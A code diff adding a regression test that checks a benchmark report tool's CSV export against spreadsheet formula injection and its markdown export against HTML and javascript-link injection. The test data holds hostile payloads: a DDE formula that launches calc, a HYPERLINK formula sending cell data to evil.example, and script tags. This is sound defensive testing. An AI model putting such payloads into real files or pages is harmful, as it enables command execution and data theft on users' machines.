@@ -14,6 +14,7 @@ from pathlib import Path
 
 import pytest
 from conftest import REPO, run_cli
+from support import report_store
 from support.report_store import FakeRun, Rating, write_store
 
 from medhelm_local.store.database import open_store
@@ -72,6 +73,40 @@ def test_json_csv_markdown_and_latex_hold_the_same_leaderboard(results: Path, ke
     tex = latex.read_text()
     assert r"\begin{tabular}" in tex and r"local/big\_model" in tex and r"\textbf{" in tex
     assert _fingerprint(results) == before  # nothing in the store's folder changed
+
+
+FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_markdown_carries_no_html(
+        tmp_path: Path, kek: Kek, kek_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Issue 29, finding 8: `report --format csv` wrote `=1+1`, `@SUM(1+1)` and a display name `=HYPERLINK(...)`
+    raw, so a spreadsheet ran them; `--format md` passed `<script>` through. Genuine negative numbers stay
+    numbers."""
+    hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"details")'
+    monkeypatch.setitem(report_store.BENCHMARKS, "pubmed_qa", {**report_store.BENCHMARKS["pubmed_qa"],
+                                                                "display_name": hyperlink})
+    runs = [FakeRun(name, "pubmed_qa", 10, accuracy=0.5, seed=i, extra_metrics={"drift": lambda i: -0.25})
+            for i, name in enumerate([*FORMULAS, "<script>alert(1)</script>[x](javascript:alert(1))"])]
+    results = tmp_path / "results"
+    write_store(results / "hostile.duckdb", kek, "hostile", runs)
+    written = tmp_path / "report.csv"  # a file, as a spreadsheet opens it (a pipe in text mode turns CR into LF)
+    code, out, err = _report(results, kek_file, "--format", "csv", "--out", str(written))
+    assert code == 0, err
+    with written.open(newline="") as fh:
+        table = list(csv.DictReader(fh))
+    assert {r["model"] for r in table} >= {"'" + f for f in FORMULAS}
+    assert {r["benchmark_name"] for r in table} == {"'" + hyperlink}
+    for row in table:
+        for field, text in row.items():
+            assert not text.startswith(("=", "+", "@", "\t", "\r")), (field, text)
+            assert not text.startswith("-") or float(text) < 0, (field, text)  # only numbers may start with -
+    assert {float(r["value"]) for r in table if r["metric"] == "drift"} == {-0.25}  # still a number
+    code, out, err = _report(results, kek_file, "--format", "md")
+    assert code == 0, err
+    assert "<script>" not in out and "&lt;script&gt;alert(1)&lt;/script&gt;" in out
+    assert "[x](javascript" not in out and "\\[x\\](javascript:alert(1))" in out
+    assert "+cmd\\|' /C calc'!A0" in out  # the pipe cannot end the table cell early
 
 
 def test_the_html_report_is_a_folder_with_no_address_outside_it(results: Path, kek_file: Path) -> None:
